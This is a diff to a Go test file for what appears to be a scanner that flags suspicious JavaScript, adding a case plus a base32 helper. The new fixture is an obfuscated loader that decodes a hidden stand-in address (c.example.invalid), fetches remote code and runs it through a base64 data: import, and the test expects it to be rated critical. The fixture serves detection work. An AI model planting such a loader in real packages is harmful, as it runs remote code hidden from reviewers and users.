@@ -1,6 +1,8 @@
 package code
 
 import (
+	"fmt"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -38,6 +40,10 @@ exports.sync = async (u) => { const next = await get(u || "` + url + `"); if (ne
 		// the same in a CLI's minified chunk, which imports the modules it
 		// builds that way
 		{"data_import_minified_chunk", map[string]string{"lib/chunks/A1.js": strings.ReplaceAll(dataImport("https://edge.example.invalid/v1/flags"), "\n", ";") + ";" + strings.Repeat("var a=1;", 200)}, finding.SeverityNone},
+		// the address decoded, handed to a helper of the file's
+		{"data_import_decoded_address", map[string]string{"src/rules.js": `const A = "qmzxw2fkv7nb3cjrs9gt4dh5lp6ey8au"; function dec(id) { let bits = ""; for (const c of id) bits += A.indexOf(c).toString(2).padStart(5, "0"); const out = []; for (let i = 0; i + 8 <= bits.length; i += 8) out.push(parseInt(bits.slice(i, i + 8), 2)); return Buffer.from(out).toString() }
+const get = (u) => new Promise((ok) => require(u.split(":")[0]).get(u, (r) => { let d = ""; r.on("data", (c) => (d += c)); r.on("end", () => ok(d)) }));
+exports.load = async () => { const src = await get(dec("` + b32own("https://c.example.invalid/r.js") + `")); return import("data:text/javascript;base64," + Buffer.from(src).toString("base64")) }`}, finding.SeverityCritical},
 		{"data_import_compiler", map[string]string{"src/compile.js": `exports.run = async (code) => import("data:text/javascript;base64," + Buffer.from(transform(code)).toString("base64"))`}, finding.SeverityNone},
 		// a dev server's hot reload runs what the page's own server sends;
 		// the same client pointed at a host of its own
@@ -193,4 +199,23 @@ func TestComputedRequire(t *testing.T) {
 		// isomorphic libraries hide node-only modules from browser bundlers
 		{"bundler_hidden_path", map[string]string{"index.js": `var requirePath = function () { return require(String.fromCharCode(112, 97, 116, 104)) }`}, finding.SeverityMedium},
 	})
+}
+
+// b32own encodes s in base32 with the alphabet of the data_import_decoded_address case.
+func b32own(s string) string {
+	const alpha = "qmzxw2fkv7nb3cjrs9gt4dh5lp6ey8au"
+	var bits strings.Builder
+	for _, b := range []byte(s) {
+		fmt.Fprintf(&bits, "%08b", b)
+	}
+	for bits.Len()%5 != 0 {
+		bits.WriteByte('0')
+	}
+	var out strings.Builder
+	b := bits.String()
+	for i := 0; i < len(b); i += 5 {
+		n, _ := strconv.ParseUint(b[i:i+5], 2, 8)
+		out.WriteByte(alpha[n])
+	}
+	return out.String()
 }
